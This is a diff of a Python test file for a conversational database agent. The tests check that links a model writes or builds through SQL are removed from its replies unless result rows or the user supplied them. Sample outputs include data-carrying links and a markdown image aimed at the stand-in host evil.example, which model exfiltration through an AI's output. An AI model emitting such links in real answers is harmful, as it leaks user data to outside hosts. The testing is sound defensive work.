@@ -4,6 +4,9 @@ import pytest
 from langchain_core.messages import AIMessage
 from talk import ANSWER, COUNT, READ, SEVEN, TALK, WRITE, Talk, ask, read, write
 
+from link_forms import LEFT, check_links
+from turnkeep.blocks.wording import Rewritten
+from turnkeep.records import Reply
 from turnkeep_agents.database.results import Result
 
 QUESTION = "How many employees are active?"
@@ -74,14 +77,29 @@ async def test_a_cell_is_text_whatever_stands_in_it(talk: Talk) -> None:
     assert "Brühl & Sohn" in text
 
 
-EVIL = "There are 7, [see](https://evil.example/?d=7). ![x](//evil.example)"
+async def test_links_in_rows_are_shown_and_no_others(talk: Talk) -> None:
+    page = "https://crews.example/north_1?a=1&b=2"
+
+    async def turn(answer: str, *repaired: str) -> Reply:
+        again = [(REPAIR, Rewritten(sentences=[*repaired]))] if repaired else []
+        rows = Result(("crew", "page"), (("North", page), ("South", LEFT)))
+        return await talk.say("x", *CREWS, (ANSWER, f"Good. {answer}"), *again, plays=[rows])
+
+    await check_links(talk, turn, page)
 
 
-@pytest.mark.parametrize("said", [EVIL, AIMessage("I won't. " + EVIL, additional_kwargs={"refusal": EVIL})])
-async def test_links_of_a_model_lead_nowhere(talk: Talk, said: str | AIMessage) -> None:
-    reply = await talk.say(QUESTION, *STAFF, (ANSWER, said), plays=[SEVEN])
+async def test_a_link_that_the_statement_builds_is_the_models_own(talk: Talk) -> None:
+    built = write("SELECT 'https://evil.example/' || name AS page FROM crew")
+    rows = Result(("page",), (("https://evil.example/North",), ("https://evil.example/South",)))
+    said = "See https://evil.example/North there. Two crews."
+    reply = await talk.say("x", CREWS[0], built, (ANSWER, said), (REPAIR, '{"sentences": [""]}'), plays=[rows])
+    assert reply.text.startswith("Two crews.")
+
+
+async def test_a_refusal_of_the_model_links_nowhere(talk: Talk) -> None:
+    said = AIMessage("I won't. See https://evil.example/?d=1 there.", additional_kwargs={"refusal": "I won't."})
+    reply = await talk.say(QUESTION, *STAFF, (ANSWER, said), (REPAIR, '{"sentences": [""]}'), plays=[SEVEN])
     assert "evil" not in reply.text
-    assert "link_removed" in reply.warnings
 
 
 async def test_an_address_that_the_user_gave_may_be_said(talk: Talk) -> None:
